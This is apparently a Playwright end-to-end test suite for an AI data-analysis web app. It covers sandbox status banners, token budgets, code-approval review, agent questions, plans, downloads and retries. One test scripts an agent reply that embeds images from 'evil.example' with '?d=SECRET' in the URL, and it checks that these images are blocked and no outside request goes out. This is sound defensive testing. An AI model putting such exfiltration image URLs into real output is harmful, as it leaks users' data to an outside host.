              'fig.add_layout_image(source="http://evil.example/logo.png?d=SECRET", xref="paper", yref="paper", x=0, y=1, sizex=0.3, sizey=0.3)\nfig.show()',
          },
          { final: 'Done: ![the data](http://evil.example/pixel.png?d=SECRET) — see [the source](https://example.org/page).' },
        ],
        0.01,
      );
      await ask('Chart it with our logo.');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Done' }).waitFor({ timeout: 30_000 });
      await lastRun().locator('.js-plotly-plot .main-svg').first().waitFor();
      await lastRun().getByTestId('blocked-image').filter({ hasText: 'external image blocked: the data from evil.example' }).waitFor();
      const link = lastRun().getByRole('link', { name: 'the source' });
      expect((await link.getAttribute('rel')) === 'noopener noreferrer nofollow', 'external links carry rel=noopener noreferrer nofollow');
      await page.waitForTimeout(1000);
      const pointing = await page.evaluate(() =>
        [...document.querySelectorAll('img, image')].filter((e) => [...e.attributes].some((a) => a.value.includes('evil.example'))).length,
      );
      expect(pointing === 0, `${pointing} image elements point at the outside host`);
      page.off('request', onRequest);
      expect(outside.length === 0, `requests to outside hosts: ${outside.join(', ')}`);
      await lastRun().getByTestId('final-answer').scrollIntoViewIfNeeded();
      await shot('10-external-image-blocked');
    });

    await test('sandbox banners: analysis disabled, then not isolated', async () => {
      const fake = (over) => ({
        isolation: 'required',
        mechanism: 'bubblewrap',
        location: 'backend',
        available: true,
        isolated: true,
        detail: 'Code runs in bubblewrap.',
        fix: null,
        seccomp: [],
        ...over,
      });
      await page.route('**/api/v1/sandbox', (route) =>
        route.fulfill({
          json: fake({
            available: false,
            isolated: false,
            mechanism: null,
            detail: 'bubblewrap cannot create a user namespace on this host',
            fix: 'allow unprivileged user namespaces (sysctl kernel.unprivileged_userns_clone=1), or set SANDBOX_ISOLATION=none for a single trusted user',
          }),
        }),
      );
      await page.reload();
      const banner = page.getByTestId('sandbox-banner');
      await banner.filter({ hasText: 'Analysis is disabled: bubblewrap cannot create a user namespace on this host. Fix: allow' }).waitFor();
      await page.getByTestId('composer-disabled').waitFor();
      expect(await page.getByRole('textbox', { name: 'Ask a question about your data' }).isDisabled(), 'the composer is disabled');
      await page.locator('.js-plotly-plot .main-svg').last().waitFor();
      await shot('11-sandbox-disabled');
      await page.unroute('**/api/v1/sandbox');
      await page.route('**/api/v1/sandbox', (route) =>
        route.fulfill({ json: fake({ isolation: 'none', mechanism: 'rlimits', isolated: false, detail: 'Limits only.' }) }),
      );
      await page.reload();
      await banner.filter({ hasText: 'Analysis code is not isolated (SANDBOX_ISOLATION=none): use this only for a single trusted user.' }).waitFor();
      expect(!(await page.getByRole('textbox', { name: 'Ask a question about your data' }).isDisabled()), 'the composer stays enabled');
      await page.locator('.js-plotly-plot .main-svg').last().waitFor();
      await shot('12-sandbox-not-isolated');
      await page.unroute('**/api/v1/sandbox');
      const status = page.waitForResponse((r) => r.url().endsWith('/api/v1/sandbox'));
      await page.reload();
      await status;
      await page.getByRole('textbox', { name: 'Ask a question about your data' }).waitFor();
      expect((await banner.count()) === 0, 'the banner goes away with a working sandbox');
    });

    await test('a query refused with 503 sandbox_unavailable shows its reason', async () => {
      const detail = 'No sandbox can be started: bubblewrap is missing. Install it (apt-get install bubblewrap) or set SANDBOX_ISOLATION=none.';
      await page.route('**/api/v1/sessions/*/query', (route) => route.fulfill({ status: 503, json: { detail, code: 'sandbox_unavailable' } }));
      await ask('Will this run?');
      await page.getByTestId('query-refused').filter({ hasText: detail }).waitFor();
      await shot('13-query-refused');
      await page.unroute('**/api/v1/sessions/*/query');
    });

    await test('usage and budget: totals follow each run; past a token budget a question is refused', async () => {
      const tokensIn = (text) => Number(/([\d,]+) tokens?/.exec(text)?.[1].replaceAll(',', '') ?? NaN);
      const usage = page.getByTestId('session-usage');
      const before = tokensIn(await usage.innerText());
      expect(before > 0, `the session header shows its tokens: ${await usage.innerText()}`);
      await script([{ final: 'There are 30 rows.' }], 0.01);
      await ask('How many rows are there?');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'There are 30 rows.' }).waitFor({ timeout: 30_000 });
      // The header follows without a reload.
      await page.waitForFunction(
        (b) => Number(/([\d,]+) tokens?/.exec(document.querySelector('[data-testid=session-usage]')?.textContent ?? '')?.[1].replaceAll(',', '')) > b,
        before,
      );
      const spent = tokensIn(await usage.innerText());
      expect(/^[\d,]+ tokens · \$\d/.test(await usage.innerText()), `the header shows the cost too: ${await usage.innerText()}`);

      await page.getByRole('main').locator('header').getByRole('link', { name: 'Sales 2026' }).click();
      const panel = page.getByTestId('project-usage');
      await panel.scrollIntoViewIfNeeded();
      const number = async (id) => Number((await panel.getByTestId(id).innerText()).replaceAll(',', ''));
      const projectTokens = (await number('usage-tokens-in')) + (await number('usage-tokens-out'));
      expect(projectTokens >= spent, `the project has used ${projectTokens} tokens, its session alone ${spent}`);
      expect(/^\$\d/.test(await panel.getByTestId('usage-cost').innerText()), 'the project shows its cost');
      expect((await panel.getByRole('progressbar').count()) === 0, 'no bar without a budget');

      const tokenBudget = panel.getByRole('textbox', { name: 'Token budget' });
      await tokenBudget.fill('-5');
      await panel.getByTestId('budget-tokens').getByRole('button', { name: 'Save' }).click();
      await panel.getByTestId('budget-tokens').getByRole('alert').filter({ hasText: 'A budget cannot be negative.' }).waitFor();
      await tokenBudget.fill('1,000');
      await panel.getByTestId('budget-tokens').getByRole('button', { name: 'Save' }).click();
      await panel.locator('[data-testid=budget-bar-tokens][data-state=reached]').waitFor();
      await panel.getByTestId('budget-reached').filter({ hasText: 'Budget reached: new questions are refused until it is raised.' }).waitFor();
      // The figure the panel shows now: at least what it showed before (the knowledge review pass of the last run may
      // have added its tokens to the run since).
      const ofBudget = panel.getByText(/[\d,]+ tokens of 1,000 tokens/);
      await ofBudget.waitFor();
      const shown = Number(/([\d,]+) tokens of 1,000 tokens/.exec(await ofBudget.innerText())[1].replaceAll(',', ''));
      expect(shown >= projectTokens, `the budget bar shows ${shown} tokens used, the usage said ${projectTokens}`);
      await panel.scrollIntoViewIfNeeded();
      await shot('14-project-usage-budget-reached');

      await page.goBack();
      await page.waitForURL('**/sessions/**');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'There are 30 rows.' }).waitFor();
      const runs = await page.getByTestId('run').count();
      const started = [];
      const onRequest = (r) => /\/runs\/[^/]+\/events/.test(r.url()) && started.push(r.url());
      page.on('request', onRequest);
      await ask('And one more question?');
      const refused = page.getByTestId('query-refused');
      await refused.filter({ hasText: `This project has used ${projectTokens.toLocaleString('en-US')} of its 1,000 token budget, so it takes no more questions.` }).waitFor();
      await page.waitForTimeout(500);
      page.off('request', onRequest);
      expect((await page.getByTestId('run').count()) === runs, 'no run started');
      expect((await page.getByText('Starting…').count()) === 0, 'nothing is starting');
      expect(started.length === 0, `no run stream was opened: ${started.join(', ')}`);
      const kept = await page.getByRole('textbox', { name: 'Ask a question about your data' }).inputValue();
      expect(kept === 'And one more question?', `the refused question stays in the box: ${JSON.stringify(kept)}`);
      await shot('15-query-refused-budget');

      await refused.getByRole('link', { name: 'Open project settings' }).click();
      await page.waitForURL('**/projects/*#usage');
      await panel.locator('[data-testid=budget-bar-tokens][data-state=reached]').waitFor();
      const box = await panel.boundingBox();
      const viewport = page.viewportSize();
      expect(box && box.y >= 0 && box.y + box.height <= viewport.height, `the settings link brings the usage section into view (${JSON.stringify(box)})`);
      await panel.getByRole('button', { name: 'Remove the token budget' }).click();
      await panel.getByTestId('budget-tokens').getByText('No budget').waitFor();
      expect((await panel.getByTestId('budget-reached').count()) === 0, 'the budget notice goes with the budget');
      await page.goBack();
      await page.waitForURL('**/sessions/**');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'There are 30 rows.' }).waitFor();
    });

    await test('dark theme and a narrow window', async () => {
      await chooseTheme(page, 'Dark');
      await settle(page, 500);
      await shot('07-session-dark');
      await page.setViewportSize({ width: 420, height: 860 });
      await settle(page, 300);
      await shot('08-narrow-dark');
      await sessionMenu().click();
      await page.getByRole('menuitem', { name: 'Export as Markdown (.md)' }).waitFor();
      await settle(page, 300);
      await shot('08b-narrow-dark-export-menu');
      await page.getByRole('menuitem', { name: 'Choose questions to export…' }).click();
      await page.getByRole('dialog', { name: 'Export questions' }).getByTestId('export-runs').waitFor();
      await settle(page, 300);
      await shot('08c-narrow-dark-export-dialog');
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'detached' });
      await page.setViewportSize({ width: 1440, height: 900 });
      await sessionMenu().click();
      await page.getByRole('menuitem', { name: 'Choose questions to export…' }).click();
      await page.getByRole('dialog', { name: 'Export questions' }).getByTestId('export-runs').waitFor();
      await settle(page, 300);
      await shot('08d-dark-export-dialog');
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'detached' });
      await page.setViewportSize({ width: 420, height: 860 });
      await page.getByRole('button', { name: 'Open navigation' }).click();
      await page.getByRole('dialog').getByText('Sales 2026').waitFor();
      await shot('09-narrow-navigation');
      await page.keyboard.press('Escape');
      await page.setViewportSize({ width: 1440, height: 900 });
      await chooseTheme(page, 'Light');
    });

    const newSession = async () => {
      await page.getByRole('main').locator('header').getByRole('link', { name: 'Sales 2026' }).click();
      await page.getByTestId('project-title').filter({ hasText: 'Sales 2026' }).waitFor();
      await page.getByRole('main').getByRole('button', { name: 'New session' }).click();
      await page.waitForURL('**/sessions/**');
      await page.getByText('What would you like to know?').waitFor();
    };
    const composer = () => page.getByRole('textbox', { name: 'Ask a question about your data' });
    // sales.csv: units 1..30 at a price of 3·units + 0.5, so revenue (units × price) totals 28,597.50.
    const readSales = "import pandas as pd\ndf = pd.read_csv('sales.csv')\ndf['revenue'] = df['units'] * df['price']";

    await test('the agent asks: the question waits through a reload, the answer lets the run go on', async () => {
      await newSession();
      await script(
        [
          { thought: 'Revenue can be net or gross; ask which.', code: `${readSales}\nkind = ask_user('Net or gross revenue?')` },
          { thought: 'Total it, as the user asked.', code: "total = df['revenue'].sum()\nprint(kind, total)" },
          { thought: 'Answer with it.', code: "final_answer(f'Total {kind} revenue is {total:,.2f}.')" },
        ],
        0.01,
      );
      await ask('What is the total revenue?');
      const question = lastRun().getByTestId('question');
      await question.filter({ hasText: 'Net or gross revenue?' }).waitFor();
      expect((await question.getAttribute('data-state')) === 'waiting', 'the question waits for an answer');
      await lastRun().getByTestId('run-footer').getByText('Waiting for your answer').waitFor();
      await page.getByTestId('composer-waiting').filter({ hasText: 'Answer the question above to continue.' }).waitFor();
      expect(await composer().isDisabled(), 'the composer waits while the question does');
      await settle(page, 300);
      await shot('18-question-waiting');

      await page.reload();
      const box = lastRun().getByRole('textbox', { name: 'Your answer' });
      await box.waitFor();
      expect((await question.getAttribute('data-state')) === 'waiting', 'after a reload the question still waits');
      expect((await question.getByTestId('question-text').innerText()) === 'Net or gross revenue?', 'the question is shown after a reload');
      // The composer's hint leads to the answer box.
      await page.getByRole('button', { name: 'Go to the question' }).click();
      await page.waitForFunction(() => document.activeElement?.getAttribute('aria-label') === 'Your answer');
      await box.fill('gross');
      await box.press('Enter');
      await question.getByTestId('question-answer').filter({ hasText: 'gross' }).waitFor();
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Total gross revenue is 28,597.50.' }).waitFor({ timeout: 40_000 });
      await lastRun().getByText('Succeeded').waitFor();
      await openSteps();
      const output = await lastRun().getByTestId('step-output').last().innerText();
      expect(output.includes('gross 28597.5'), `the answer is the value of ask_user: ${JSON.stringify(output)}`);
      expect(!(await composer().isDisabled()), 'the composer takes questions again');

      await page.reload();
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Total gross revenue' }).waitFor();
      await openSteps();
      expect((await question.getAttribute('data-state')) === 'answered', 'history shows the question answered');
      expect((await question.getByTestId('question-answer').innerText()) === 'gross', 'history shows the answer');
      expect((await lastRun().getByRole('textbox').count()) === 0, 'no answer box in a finished run');
      await question.scrollIntoViewIfNeeded();
      await shot('18b-question-answered');
    });

    await test('review mode: code waits for approval; an edit runs instead; a rejection with feedback gets new code', async () => {
      await newSession();
      const toggle = page.getByTestId('autonomy-switch');
      expect((await toggle.getAttribute('aria-checked')) === 'false', 'a new session runs code without review');
      await toggle.click();
      await page.locator('[data-testid=autonomy-switch][aria-checked=true]').waitFor();
      await page.getByRole('navigation').getByTestId('review-badge').first().waitFor();

      const wrong = `${readSales}\nprint('total', df['revenue'].max())`;
      await script(
        [
          { thought: 'Total the revenue.', code: wrong },
          { final: 'Total revenue is 28,597.50.' },
        ],
        0.01,
      );
      await ask('What is the total revenue?');
      const editor = lastRun().getByRole('textbox', { name: 'Code waiting for approval' });
      await editor.waitFor();
      expect((await editor.inputValue()) === wrong, 'the editor holds the agent’s code');
      await lastRun().getByTestId('run-footer').getByText('Waiting for your approval').waitFor();
      await page.getByTestId('composer-waiting').filter({ hasText: 'Approve, edit or reject the code above to continue.' }).waitFor();
      expect((await lastRun().getByTestId('step-output').count()) === 0, 'nothing ran before the approval');
      await settle(page, 300);
      await shot('19-code-waiting-for-approval');

      await editor.fill(wrong.replace('.max()', '.sum()'));
      // The selection lands on the highlighted copy under the editor: both lay the code out alike.
      await editor.evaluate((el) => {
        const at = el.value.indexOf('.sum()');
        el.setSelectionRange(at, at + '.sum()'.length);
      });
      await shot('19b-code-edited');
      await lastRun().getByRole('button', { name: 'Approve edited code' }).click();
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Total revenue is 28,597.50.' }).waitFor({ timeout: 40_000 });
      await lastRun().getByText('Succeeded').waitFor();
      await openSteps();
      const card = lastRun().getByTestId('step-card').first();
      await card.getByTestId('step-output').filter({ hasText: 'total 28597.5' }).waitFor();
      await card.getByTestId('approval-decision').filter({ hasText: 'Edited before running' }).waitFor();
      expect((await card.getByTestId('code').innerText()).includes(".sum()"), 'the step shows the edited code, the code that ran');
      expect((await lastRun().getByTestId('step-card').count()) === 2, 'the approved step continued (no second card for it)');
      await settle(page, 300);
      await card.evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await shot('20-edited-and-approved');

      const feedback = 'Do not write files; just print the mean.';
      await script(
        [
          { thought: 'Save a copy first.', code: "import pandas as pd\ndf = pd.read_csv('sales.csv')\ndf.to_csv('copy.csv')" },
          { thought: 'Print the mean, as asked.', code: "import pandas as pd\nprint('mean units', pd.read_csv('sales.csv')['units'].mean())" },
          { final: 'The mean is 15.5 units.' },
        ],
        0.01,
      );
      await ask('What are the mean units sold?');
      await editor.waitFor();
      expect((await editor.inputValue()).includes('to_csv'), 'the first code block waits');
      await lastRun().getByRole('button', { name: 'Reject…' }).click();
      await lastRun().getByRole('textbox', { name: 'Why reject this code? (optional)' }).fill(feedback);
      await shot('21-reject-with-feedback');
      await lastRun().getByRole('button', { name: 'Reject code' }).click();
      const rejected = lastRun().getByTestId('step-card').first();
      // The agent reads why and writes new code, which waits again.
      await page.waitForFunction(() => {
        const box = [...document.querySelectorAll('[data-testid=run]')].at(-1)?.querySelector('textarea[aria-label="Code waiting for approval"]');
        return box && box.value.includes('mean()');
      });
      await openStep(rejected);
      await rejected.getByTestId('approval-decision').filter({ hasText: `Rejected: ${feedback}` }).waitFor();
      await shot('22-rejected-then-waiting-again');
      await lastRun().getByRole('button', { name: 'Approve', exact: true }).click();
      await lastRun().getByTestId('final-answer').filter({ hasText: 'The mean is 15.5 units.' }).waitFor({ timeout: 40_000 });
      await openSteps();
      await lastRun().getByTestId('step-output').filter({ hasText: 'mean units 15.5' }).waitFor();
      expect((await lastRun().getByTestId('step-error').count()) === 0, 'a rejection is not shown as an error');

      await page.reload();
      await lastRun().getByTestId('final-answer').filter({ hasText: 'The mean is 15.5 units.' }).waitFor();
      await openSteps();
      const decisions = await lastRun().getByTestId('approval-decision').allInnerTexts();
      expect(
        JSON.stringify(decisions) === JSON.stringify([`Rejected: ${feedback}`, 'Approved']),
        `history shows the decisions: ${JSON.stringify(decisions)}`,
      );
      await openSteps(page.getByTestId('run').first());
      await page.getByTestId('run').first().getByTestId('approval-decision').filter({ hasText: 'Edited before running' }).waitFor();
      expect((await page.locator('[data-testid=autonomy-switch][aria-checked=true]').count()) === 1, 'the session stays in review mode');
      await chooseTheme(page, 'Dark');
      await settle(page, 300);
      await lastRun().evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await shot('23-review-history-dark');
      await page.setViewportSize({ width: 420, height: 860 });
      await settle(page, 300);
      await shot('24-review-narrow-dark');
      await page.setViewportSize({ width: 1440, height: 900 });
      await chooseTheme(page, 'Light');
      await toggle.click();
      await page.locator('[data-testid=autonomy-switch][aria-checked=false]').waitFor();
    });

    await test('plans and answer checks: the plan, its revision, a revision request and the checked answer, live and from history', async () => {
      const reason = 'The answer states the total the code printed (4490.75).';
      await script(
        [
          '1. Read `sales.csv` and look at its columns.\n2. Sum the `revenue` column.\n3. Answer with the total.<end_plan>',
          { thought: 'Read the file first.', code: 'import pandas as pd\ndf = pd.read_csv("sales.csv")\nprint(df.shape)\nprint(df.columns.tolist())' },
          { thought: 'Sum the revenue.', code: 'print(df["revenue"].sum())' },
          'Established: `sales.csv` has 4 rows and the revenue total is 4490.75.\n1. Answer with the total.<end_plan>',
          { final: 'Total revenue is 5000.' },
          JSON.stringify({ verdict: 'revise', reason: 'The output shows 4490.75, not 5000.' }),
          { final: 'Total revenue is **4490.75**.' },
          JSON.stringify({ verdict: 'approve', reason }),
        ],
        0.02,
      );
      const ctx = await browser.newContext({ viewport: { width: 1440, height: 900 } });
      try {
        const p = await ctx.newPage();
        p.setDefaultTimeout(T);
        p.on('console', (m) => m.type() === 'error' && consoleErrors.push(`console (plans): ${m.text()}`));
        p.on('pageerror', (e) => consoleErrors.push(`pageerror (plans): ${e.message}`));
        await p.goto(`${planBase}/login`);
        await p.getByLabel('Email').fill(EMAIL);
        await p.getByLabel('Password').fill(PASSWORD);
        await p.getByRole('button', { name: 'Sign in' }).click();
        await p.getByRole('heading', { name: 'Projects' }).waitFor();
        await p.getByRole('button', { name: 'New project' }).last().click();
        await p.getByRole('textbox', { name: 'Name' }).fill('Revenue');
        await p.getByRole('button', { name: 'Create project' }).click();
        await p.getByTestId('project-title').filter({ hasText: 'Revenue' }).waitFor();
        const csv = 'region,revenue\nNorth,1200.5\nSouth,980.25\nNorth,1310.25\nSouth,999.75\n';
        await p.getByTestId('file-input').setInputFiles({ name: 'sales.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
        await p.getByRole('button', { name: /^sales\.csv/ }).waitFor();
        await p.getByRole('main').getByRole('button', { name: 'New session' }).click();
        await p.waitForURL('**/sessions/**');
        const box = p.getByRole('textbox', { name: 'Ask a question about your data' });
        await box.fill('What is the total revenue?');
        await box.press('Enter');
        const run = p.locator('[data-testid=run]').last();
        // The plan shows (and streams) before the first step.
        await run.getByTestId('run-plan').first().waitFor();
        await run.getByTestId('answer-check').waitFor({ timeout: 60_000 });

        const flow = () =>
          run.evaluate((el) =>
            [...el.querySelectorAll('[data-testid=run-plan], [data-testid=step-card]')].map(
              (x) => x.getAttribute('aria-label') ?? x.querySelector('header > span')?.textContent,
            ),
          );
        const seen = async (when) => {
          // The answer and its check lead; the flow folds beneath until opened.
          const toggle = run.getByTestId('steps-toggle');
          if ((await toggle.getAttribute('aria-expanded')) === 'false') await toggle.click();
          await run.getByTestId('run-steps').waitFor();
          const order = await flow();
          const expected = ['Plan', 'Step 1', 'Step 2', 'Revised plan (before step 3)', 'Step 3', 'Step 4'];
          expect(JSON.stringify(order) === JSON.stringify(expected), `${when}: the flow was ${JSON.stringify(order)}`);
          const [first, revised] = await run.getByTestId('run-plan').all();
          // The latest plan is open; the first one is folded to its first line until opened.
          await revised.getByTestId('plan-text').filter({ hasText: 'the revenue total is 4490.75' }).waitFor();
          await first.getByRole('button').filter({ hasText: 'Read sales.csv and look at its columns.' }).waitFor();
          const revision = run.getByTestId('step-card').nth(2).getByTestId('revision-request');
          await revision.filter({ hasText: 'Check asked for a revision: The output shows 4490.75, not 5000.' }).waitFor();
          expect((await run.getByTestId('step-card').nth(2).getByRole('alert').count()) === 0, `${when}: the revision request is not shown as an error`);
          expect((await run.getByTestId('step-error').count()) === 0, `${when}: no step shows a code error`);
          await run.getByTestId('final-answer').filter({ hasText: 'Total revenue is 4490.75.' }).waitFor();
          const check = run.getByTestId('answer-check');
          expect((await check.innerText()) === `Checked: ${reason}`, `${when}: the check reads ${JSON.stringify(await check.innerText())}`);
          expect((await check.getAttribute('data-verdict')) === 'approve', `${when}: the check approves`);
          await first.getByRole('button').click();
          await first.getByTestId('plan-text').locator('li').filter({ hasText: 'Sum the revenue column.' }).waitFor();
          await first.getByRole('button').click();
          await first.getByTestId('plan-text').waitFor({ state: 'detached' });
        };
        await run.getByText('Succeeded').waitFor();
        await seen('live');
        await settle(p, 300);
        await run.evaluate((el) => el.scrollIntoView({ block: 'start' }));
        await snap(p, path.join(SHOTS, '16-plan-and-check.png'));
        await run.getByTestId('answer-check').evaluate((el) => el.scrollIntoView({ block: 'end' }));
        await snap(p, path.join(SHOTS, '16b-revision-and-checked-answer.png'));

        await p.reload();
        await run.getByTestId('answer-check').waitFor();
        await seen('from history');
        await chooseTheme(p, 'Dark');
        await settle(p, 300);
        await run.getByTestId('run-plan').last().evaluate((el) => el.scrollIntoView({ block: 'start' }));
        await snap(p, path.join(SHOTS, '17-plan-and-check-history-dark.png'));
      } finally {
        await ctx.close();
      }
    });

    const saved = async (click) => {
      const downloading = page.waitForEvent('download', { timeout: 40_000 });
      await click();
      const download = await downloading;
      return { name: download.suggestedFilename(), bytes: readFileSync(await download.path()) };
    };
    const apiGet = (url) =>
      page.evaluate(async (u) => {
        const token = JSON.parse(localStorage.getItem('wb.auth')).token;
        const r = await fetch(u, { headers: { Authorization: `Bearer ${token}` } });
        return r.text();
      }, url);

    // The session whose answer has a chart: the phone test comes back to it.
    let chartSession = '';
    await test("a session's first question says the sandbox is starting; the answer leads with its chart, the steps fold", async () => {
      await newSession();
      chartSession = page.url();
      await script(
        [
          {
            thought: 'Total revenue by region, as a table and a chart.',
            code:
              `${readSales}\nby_region = df.groupby('region', as_index=False)['revenue'].sum()\ndisplay(by_region)\n` +
              "import plotly.express as px\nfig = px.bar(by_region, x='region', y='revenue', title='Revenue by region')\nfig.show()\n" +
              "by_region.to_csv('by_region.csv', index=False)",
          },
          { final: 'Region **r2** has the most revenue.' },
        ],
        0.01,
      );
      // The query's stream stops right after sandbox.starting, and the re-attach that would
      // bring the rest waits for the test: what the user sees then is deterministic.
      let release;
      const released = new Promise((resolve) => (release = resolve));
      let events = [];
      await page.route('**/api/v1/sessions/*/query', async (route) => {
        const response = await route.fetch();
        const messages = (await response.text()).split('\n\n').filter((m) => m.includes('data:'));
        events = messages.map((m) => /^event: (.+)$/m.exec(m)?.[1]);
        const upTo = events.indexOf('sandbox.starting');
        await route.fulfill({ response, body: messages.slice(0, upTo + 1).join('\n\n') + '\n\n' });
      });
      await page.route('**/api/v1/runs/*/events', async (route) => {
        await released;
        await route.continue();
      });
      try {
        await ask('Which region has the most revenue?');
        await lastRun().getByTestId('sandbox-starting').filter({ hasText: 'Starting the sandbox' }).waitFor();
        expect(events[0] === 'run.started' && events[1] === 'sandbox.starting', `the run's first events were ${JSON.stringify(events.slice(0, 4))}`);
        expect((await lastRun().getByText('Thinking…').count()) === 0, 'no "Thinking…" while the sandbox starts');
        await shot('35-sandbox-starting');
      } finally {
        release();
        await page.unroute('**/api/v1/sessions/*/query');
        await page.unroute('**/api/v1/runs/*/events');
      }
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Region r2 has the most revenue.' }).waitFor({ timeout: 40_000 });
      await lastRun().getByText('Succeeded').waitFor();
      // The run's stored events say the same.
      const runId = await lastRun().getAttribute('data-run-id');
      const stored = (await apiGet(`/api/v1/runs/${runId}/events`)).match(/^event: .+$/gm).map((l) => l.slice(7));
      expect(stored[0] === 'run.started' && stored[1] === 'sandbox.starting', `stored events begin ${JSON.stringify(stored.slice(0, 3))}`);

      const result = lastRun().getByTestId('run-result');
      const chart = result.getByTestId('artifact-plotly');
      await chart.locator('.js-plotly-plot .main-svg').first().waitFor({ timeout: 40_000 });
      expect((await chart.getByTestId('artifact-title').innerText()) === 'Revenue by region', 'the chart is titled by its title, no extension');
      expect((await lastRun().getByTestId('step-card').count()) === 0, 'the steps are folded');
      const summary = await lastRun().getByTestId('steps-toggle').innerText();
      expect(/^\d+ steps? · [\d.]+ (s|ms)/.test(summary), `the summary reads ${JSON.stringify(summary)}`);
      // Every result of the answer shows under it, charts first: the chart, the table, the file.
      const shown = await result.getByTestId('answer-results').locator('figure').evaluateAll((fs) => fs.map((f) => `${f.dataset.testid}:${f.dataset.name}`));
      expect(
        shown.length === 3 && shown[0] === 'artifact-plotly:Revenue by region.json' && shown[1].startsWith('artifact-table:') && shown[2] === 'artifact-file:by_region.csv',
        `under the answer: ${JSON.stringify(shown)}`,
      );
      const box = (await result.boundingBox()) ?? { y: -1 };
      const toggleBox = (await lastRun().getByTestId('steps-toggle').boundingBox()) ?? { y: -1 };
      expect(box.y < toggleBox.y, 'the answer and its chart come before the steps');
      await lastRun().evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 300);
      await shot('36-answer-first');
      await openSteps();
      await lastRun().getByTestId('step-card').first().getByTestId('code').waitFor();
      await settle(page, 300);
      await shot('36b-steps-open');
    });

    await test('the chart downloads as PNG and SVG; the table shows once, with CSV and Excel', async () => {
      const chart = lastRun().getByTestId('run-result').getByTestId('artifact-plotly');
      const png = await saved(() => chart.getByRole('button', { name: 'Download Revenue by region as PNG' }).click());
      expect(png.name === 'Revenue by region.png', `the PNG is saved as ${JSON.stringify(png.name)}`);
      expect(png.bytes.subarray(0, 8).equals(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])), 'the PNG starts with the PNG signature');
      const svg = await saved(() => chart.getByRole('button', { name: 'Download Revenue by region as SVG' }).click());
      expect(svg.bytes.toString('utf8').includes('<svg'), 'the SVG is an SVG document');

      const tables = lastRun().getByTestId('artifact-table');
      expect((await tables.count()) === 1, `one table card (${await tables.count()})`);
      expect((await lastRun().getByTestId('artifact-file').count()) === 1, "the table's CSV has no card of its own; by_region.csv has");
      const table = tables.first();
      await table.getByTestId('data-table').getByText('region').waitFor();
      const csv = await saved(() => table.getByRole('button', { name: /as CSV$/ }).click());
      expect(csv.name.endsWith('.csv') && csv.bytes.toString('utf8').startsWith('region,revenue'), `the CSV: ${csv.name} ${csv.bytes.toString('utf8').slice(0, 40)}`);
      const xlsx = await saved(() => table.getByRole('button', { name: /as Excel$/ }).click());
      expect(xlsx.name.endsWith('.xlsx'), `the workbook is saved as ${JSON.stringify(xlsx.name)}`);
      expect(xlsx.bytes.subarray(0, 2).toString('latin1') === 'PK', 'the workbook is a zip (PK)');
      await table.scrollIntoViewIfNeeded();
      await settle(page, 300);
      await shot('37-table-card');
    });

    await test('retry a failed run and edit-and-resend a question: new runs, the old ones stay', async () => {
      await script([{ status: 400, message: 'The scripted model refuses this one.' }]);
      await ask('What is the total revenue?');
      await page.locator('[data-testid=run][data-status=failed]').last().waitFor({ timeout: 60_000 });
      const failed = lastRun();
      await failed.getByTestId('run-result').getByTestId('run-error').waitFor();
      await settle(page, 300);
      await shot('38-failed-run');
      const before = await page.getByTestId('run').count();
      await script([{ final: 'Total revenue is 28,597.50.' }], 0.01);
      await failed.getByRole('button', { name: 'Retry' }).click();
      await page.waitForFunction((n) => document.querySelectorAll('[data-testid=run]').length === n + 1, before);
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Total revenue is 28,597.50.' }).waitFor({ timeout: 40_000 });
      expect((await lastRun().getByText('What is the total revenue?').count()) === 1, 'the retry asks the same question');
      expect((await page.locator('[data-testid=run][data-status=failed]').count()) === 1, 'the failed run stays in history');

      await script([{ final: 'The mean revenue is 953.25.' }], 0.01);
      // The run folds its steps as it finishes: let the page settle before aiming at its buttons.
      await page.waitForFunction(() => [...document.querySelectorAll('[data-testid=run]')].at(-1)?.getAttribute('data-status') === 'succeeded');
      await page.waitForTimeout(500);
      await lastRun().getByRole('button', { name: 'Edit' }).click();
      const editor = lastRun().getByRole('textbox', { name: 'Edit the question' });
      expect((await editor.inputValue()) === 'What is the total revenue?', 'the editor holds the question');
      await editor.fill('What is the mean revenue?');
      await shot('39-edit-question');
      await editor.press('Enter');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'The mean revenue is 953.25.' }).waitFor({ timeout: 40_000 });
      expect((await lastRun().getByText('What is the mean revenue?').count()) === 1, 'the edited question is a new run');
      expect((await page.getByTestId('run').count()) === before + 2, 'two new runs');
      const queries = await page.locator('[data-testid=run]').evaluateAll((els) => els.map((e) => e.getAttribute('aria-label')));
      expect(
        JSON.stringify(queries.slice(-3)) ===
          JSON.stringify(['Run: What is the total revenue?', 'Run: What is the total revenue?', 'Run: What is the mean revenue?']),
        `the runs in order: ${JSON.stringify(queries)}`,
      );
      await page.reload();
      await lastRun().getByTestId('final-answer').filter({ hasText: 'The mean revenue is 953.25.' }).waitFor();
      expect((await page.getByTestId('run').count()) === before + 2, 'history keeps all of them');
    });

    await test('? lists the keyboard shortcuts; / focuses the question box', async () => {
      await page.evaluate(() => document.activeElement instanceof HTMLElement && document.activeElement.blur());
      await page.keyboard.press('?');
      const dialog = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
      await dialog.getByText('Focus the question box').waitFor();
      await settle(page, 300);
      await shot('40-shortcuts');
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });
      await page.keyboard.press('/');
      await page.waitForFunction(() => document.activeElement?.getAttribute('aria-label') === 'Ask a question about your data');
      // Typed in the box, ? is a character, not a shortcut.
      await page.keyboard.type('?');
      expect((await composer().inputValue()) === '?', 'the question box took the ?');
